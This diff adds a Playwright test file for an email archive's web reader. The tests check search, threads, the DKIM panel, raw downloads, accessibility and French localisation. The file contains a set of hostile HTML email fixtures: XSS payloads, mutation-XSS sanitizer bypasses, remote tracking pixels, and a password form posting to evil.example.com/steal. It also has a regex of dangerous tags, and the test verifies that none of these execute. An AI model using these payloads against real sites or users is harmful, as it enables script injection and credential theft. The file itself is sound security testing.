@@ -1,0 +1,211 @@
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import type { Browser } from 'playwright-core';
+import type { FastifyInstance } from 'fastify';
+import { buildServer } from '../../src/serve/server.js';
+import { BlobStore } from '../../src/store/blobStore.js';
+import { SqliteStore } from '../../src/store/sqlite/sqliteStore.js';
+import type { SearchResult } from '../../src/store/archiveStore.js';
+import { formatKeyFile } from '../../src/verify/keyFile.js';
+import { cliJson, runCli, tempDir } from '../helpers.js';
+import { keyRecordOf, plainMessage, rsaKey, sign } from '../dkimFixtures.js';
+import { launchChromium, newContext, screenshot, watchPage } from '../browser.js';
+
+/**
+ * The web reader in a real Chromium: search and follow a facet, open an email, walk its thread,
+ * download the raw message, read the DKIM panel; hostile HTML emails run nothing, open nothing and
+ * fetch nothing from outside; axe-core finds no serious accessibility violation.
+ */
+
+const dir = tempDir();
+const data = join(dir, 'data');
+const mail = join(dir, 'mail');
+const key = rsaKey('web', 'harbour.example.org', 2048);
+
+/** Hostile HTML bodies: each tries to run script, open a dialog or load something from outside. */
+const HOSTILE: Record<string, string> = {
+  script: `<p>hello</p><script>alert('script')</script><script src="http://evil.example.com/x.js"></script>`,
+  handlers: `<img src="x" onerror="alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert(1)">hover</div>`,
+  jsLinks: `<a href="javascript:alert('link')">click</a> <a href="JaVaScRiPt:alert(2)">again</a> <a href="data:text/html,<script>alert(3)</script>">data</a>`,
+  svg: `<svg><script>alert('svg')</script><animate onbegin="alert('anim')" attributeName="x"/></svg><svg><image href="http://evil.example.com/svg.png"/></svg>`,
+  css: `<style>@import url(http://evil.example.com/a.css); body{background:url(http://evil.example.com/bg.png)}</style><div style="background-image:url(http://evil.example.com/inline.png);position:fixed;top:0">css</div>`,
+  metaRefresh: `<meta http-equiv="refresh" content="0;url=http://evil.example.com/"><p>refresh</p>`,
+  remoteImages: `<img src="http://tracker.example.com/pixel.gif?id=1" width="1" height="1"><img srcset="http://tracker.example.com/2x.gif 2x"><img src="//tracker.example.com/proto.gif">`,
+  forms: `<form action="http://evil.example.com/steal" method="post"><input name="password"><button>Log in</button></form>`,
+  embeds: `<iframe src="http://evil.example.com/frame"></iframe><object data="http://evil.example.com/o.swf"></object><embed src="http://evil.example.com/e"><base href="http://evil.example.com/"><link rel="stylesheet" href="http://evil.example.com/l.css">`,
+  mutation: `<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>`,
+};
+
+function htmlMessage(name: string, html: string): string {
+  return [
+    'From: Spoofer <spoof@evil.example.com>',
+    'To: reader@example.net',
+    `Subject: Hostile ${name}`,
+    'Date: Tue, 2 Jun 2020 10:00:00 +0000',
+    `Message-ID: <hostile-${name}@test>`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    `<html><head><title>x</title></head><body>${html}</body></html>`,
+    '',
+  ].join('\r\n');
+}
+
+let browser: Browser;
+let app: FastifyInstance;
+let store: SqliteStore;
+let origin: string;
+
+before(async () => {
+  mkdirSync(mail);
+  const root = plainMessage('Harbour Press <press@harbour.example.org>', 'Budget for the north basin', 'The budget for the north basin dredging is ready.\r\n');
+  writeFileSync(join(mail, '01.eml'), await sign(root, key));
+  const reply = [
+    'From: Alice <alice@example.net>',
+    'To: press@harbour.example.org',
+    'Subject: Re: Budget for the north basin',
+    'Date: Tue, 2 Jun 2020 09:00:00 +0000',
+    'Message-ID: <reply@test>',
+    'In-Reply-To: <Budgetforthenorthbasin@test>',
+    'References: <Budgetforthenorthbasin@test>',
+    '',
+    'Thanks, the budget looks fine.',
+    '',
+  ].join('\r\n');
+  writeFileSync(join(mail, '02.eml'), reply);
+  Object.entries(HOSTILE).forEach(([name, html], i) => writeFileSync(join(mail, `h${String(i).padStart(2, '0')}.eml`), htmlMessage(name, html)));
+  writeFileSync(join(dir, 'keys.txt'), formatKeyFile([keyRecordOf(key)]));
+  assert.equal((await runCli(['--data', data, 'init', '--title', 'Test Harbour'])).code, 0);
+  assert.equal((await runCli(['--data', data, 'keys', 'import', join(dir, 'keys.txt')])).code, 0);
+  await cliJson(['--data', data, 'ingest', mail, '--json']);
+  store = SqliteStore.open(join(data, 'archive.sqlite'), { readonly: true });
+  app = await buildServer({ store, blobs: new BlobStore(data), blobRoot: join(data, 'blobs'), collection: 'Test Harbour', rateLimitPerMinute: 10_000 });
+  await app.listen({ port: 0, host: '127.0.0.1' });
+  const address = app.server.address();
+  origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+  browser = await launchChromium();
+});
+
+after(async () => {
+  await browser?.close();
+  await app?.close();
+  await store?.close();
+});
+
+async function idOf(subject: string): Promise<number> {
+  const result = (await (await fetch(`${origin}/api/search?q=${encodeURIComponent(`subject:"${subject}"`)}`)).json()) as SearchResult;
+  return result.hits[0]!.message.id;
+}
+
+test('search, follow a facet, open an email, walk its thread, read the DKIM panel', async () => {
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  const watch = watchPage(page, origin);
+  await page.goto(`${origin}/`);
+  await screenshot(page, 'home');
+  await page.fill('input[name=q]', 'budget');
+  await page.click('header button[type=submit]');
+  await page.waitForURL(/\/search\?q=budget/);
+  assert.match((await page.textContent('main'))!, /2 results/);
+  await screenshot(page, 'search');
+  // The sender facet narrows the search to one sender.
+  await page.click('section.facet:has(h3:text("Senders")) a:text("press@harbour.example.org")');
+  await page.waitForURL(/from%3Apress%40harbour\.example\.org/);
+  assert.match((await page.textContent('main'))!, /1 results/);
+  await page.click('ol.hits a');
+  await page.waitForURL(/\/emails\/\d+$/);
+  const panel = (await page.textContent('section.dkim'))!;
+  assert.match(panel, /DKIM verified by harbour\.example\.org/);
+  assert.match(panel, /web\._domainkey\.harbour\.example\.org/);
+  await screenshot(page, 'email');
+  // Thread: the reply is listed, and its page links back.
+  await page.click('ol.thread a:text("Re: Budget for the north basin")');
+  await page.waitForURL(/\/emails\/\d+$/);
+  assert.match((await page.textContent('h1'))!, /^Re: Budget/);
+  await page.click('section h2 a');
+  await page.waitForURL(/\/threads\/\d+$/);
+  assert.equal(await page.locator('ol.thread li').count(), 2);
+  assert.deepEqual(watch.dialogs, []);
+  assert.deepEqual(watch.foreignRequests, []);
+  await context.close();
+});
+
+test('the raw download is the stored blob, byte for byte', async () => {
+  const id = await idOf('Budget for the north basin');
+  const context = await newContext(browser);
+  const page = await context.newPage();
+  await page.goto(`${origin}/emails/${id}`);
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('a[href$="/raw"]')]);
+  const bytes = readFileSync((await download.path())!);
+  const message = await store.getMessage(id);
+  assert.ok(bytes.equals(readFileSync(new BlobStore(data).pathOf(message!.sha256))));
+  assert.equal(download.suggestedFilename(), `${id}.eml`);
+  const head = await fetch(`${origin}/emails/${id}/raw`, { headers: { range: 'bytes=0-4' } });
+  assert.equal(head.status, 206);
+  assert.equal(head.headers.get('x-content-type-options'), 'nosniff');
+  assert.equal(await head.text(), bytes.subarray(0, 5).toString());
+  await context.close();
+});
+
+test('hostile email HTML runs nothing, opens nothing, loads nothing from outside', async () => {
+  const context = await newContext(browser);
+  for (const name of Object.keys(HOSTILE)) {
+    const page = await context.newPage();
+    const watch = watchPage(page, origin);
+    const id = await idOf(`Hostile ${name}`);
+    await page.goto(`${origin}/emails/${id}`);
+    const frame = page.frameLocator('iframe.email-html');
+    await frame.locator('body').waitFor({ state: 'attached' });
+    await page.waitForTimeout(300); // time for anything that would fire (onload, refresh, animations)
+    assert.deepEqual(watch.dialogs, [], `${name}: dialogs`);
+    assert.deepEqual(watch.foreignRequests, [], `${name}: requests outside the test server`);
+    assert.equal(page.url(), `${origin}/emails/${id}`, `${name}: the page was not navigated away`);
+    const inner = await frame.locator('body').innerHTML();
+    assert.doesNotMatch(inner, /<script|onerror|onload|javascript:|<iframe|<object|<embed|<form|<meta|<style|<base|<link/i, `${name}: ${inner}`);
+    if (name === 'remoteImages') assert.match(inner, /remote image not loaded/);
+    if (name === 'script') await screenshot(page, 'email-hostile-html');
+    await page.close();
+  }
+  await context.close();
+});
+
+test('axe-core finds no serious or critical accessibility violation on the main pages', async () => {
+  const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+  const id = await idOf('Budget for the north basin');
+  // axe is injected by the test itself; the site's CSP (rightly) refuses inline script otherwise.
+  const context = await newContext(browser, { bypassCSP: true });
+  const page = await context.newPage();
+  for (const path of ['/', '/search?q=budget', `/emails/${id}`, '/keys', '/about', '/?lang=fr']) {
+    await page.goto(`${origin}${path}`);
+    await page.evaluate(axeSource);
+    const violations = (await page.evaluate(async () => {
+      const result = await (globalThis as unknown as { axe: { run: () => Promise<{ violations: Array<{ id: string; impact: string; nodes: unknown[] }> }> } }).axe.run();
+      return result.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.length }));
+    })) as Array<{ id: string; impact: string }>;
+    assert.deepEqual(
+      violations.filter((v) => v.impact === 'serious' || v.impact === 'critical'),
+      [],
+      `${path}: ${JSON.stringify(violations)}`,
+    );
+  }
+  await context.close();
+});
+
+test('French from Accept-Language, dates in French; 404 and query errors are pages, not stack traces', async () => {
+  const id = await idOf('Budget for the north basin');
+  const fr = await (await fetch(`${origin}/emails/${id}`, { headers: { 'accept-language': 'fr-FR,fr;q=0.9,en;q=0.5' } })).text();
+  assert.match(fr, /<html lang="fr"/);
+  assert.match(fr, /Pièces jointes|Authenticité \(DKIM\)/);
+  assert.match(fr, /juin 2020/);
+  const missing = await fetch(`${origin}/emails/999999`);
+  assert.equal(missing.status, 404);
+  const bad = await fetch(`${origin}/search?q=${encodeURIComponent('(budget')}`);
+  assert.equal(bad.status, 400);
+  assert.match(await bad.text(), /query error at column/);
+  const api = await fetch(`${origin}/api/search?q=${encodeURIComponent('dkim:maybe')}`);
+  assert.equal(api.status, 400);
+  assert.match(((await api.json()) as { error: string }).error, /column/);
+});
